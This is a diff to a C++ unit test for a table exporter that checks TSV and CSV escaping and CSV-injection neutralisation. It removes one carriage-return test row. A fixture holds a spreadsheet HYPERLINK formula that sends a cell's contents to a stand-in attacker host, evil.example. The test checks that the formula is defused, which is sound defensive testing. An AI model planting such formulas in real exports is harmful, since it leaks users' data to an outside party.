@@ -32,7 +32,6 @@ TEST(HitTableText, WritesEachFormatWithItsHeaderSeparatorsAndQuoting)
         {"с\nтрока", 0.0, 0, 0},
         {"=HYPERLINK(\"http://evil.example/?\"&A1,\"клик\")", 1.0, 1, 2},
         {"+7\tр\\б", -0.5, -5, 0},  // a negative count stays a number
-        {"\r-1", 2.0, 2, 0},
     };
     // Names come spelled: "\\" is one backslash.
     const std::vector<std::string> names = {"Первый", "Второй, с запятой", "@я\\\\x"};
@@ -49,8 +48,7 @@ TEST(HitTableText, WritesEachFormatWithItsHeaderSeparatorsAndQuoting)
          "\"кв\"\t1,234568E7\t7\tВторой, с запятой\n"
          "с\\x0Aтрока\t0,00000\t0\tПервый\n"
          "'=HYPERLINK(\"http://evil.example/?\"&A1,\"клик\")\t1,00000\t1\t'@я\\\\x\n"
-         "'+7\\x09р\\\\б\t-0,50000\t-5\tПервый\n"
-         "'\\x0D-1\t2,00000\t2\tПервый"},
+         "'+7\\x09р\\\\б\t-0,50000\t-5\tПервый"},
         {TTableFormat::Csv, "\r\n",
          "word,ipm,count,dictionary\r\n"
          "дом,327.58000,32758,\"Второй, с запятой\"\r\n"
@@ -58,8 +56,7 @@ TEST(HitTableText, WritesEachFormatWithItsHeaderSeparatorsAndQuoting)
          "\"\"\"кв\"\"\",1.234568E7,7,\"Второй, с запятой\"\r\n"
          "\"с\nтрока\",0.00000,0,Первый\r\n"
          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"клик\"\")\",1.00000,1,'@я\\\\x\r\n"
-         "\"'+7\tр\\б\",-0.50000,-5,Первый\r\n"
-         "\"'\r-1\",2.00000,2,Первый"},
+         "\"'+7\tр\\б\",-0.50000,-5,Первый"},
     };
     for (const auto& c : cases) {
         SCOPED_TRACE(c.Table);
